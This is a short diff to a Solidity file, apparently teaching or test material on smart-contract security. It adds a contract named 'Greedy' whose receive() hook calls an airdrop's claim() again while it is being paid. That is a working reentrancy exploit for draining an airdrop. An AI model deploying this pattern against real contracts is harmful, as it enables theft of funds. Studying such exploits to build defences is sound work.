@@ -20,3 +20,16 @@ contract Crowd {
     }
 }
 // #endregion attack
+
+// #region second
+/// Is on the list, and claims again while it is being paid.
+contract Greedy {
+    function attack(IAirdrop airdrop) external {
+        airdrop.claim(payable(address(this)));
+    }
+
+    receive() external payable {
+        IAirdrop(msg.sender).claim(payable(address(this)));
+    }
+}
+// #endregion second
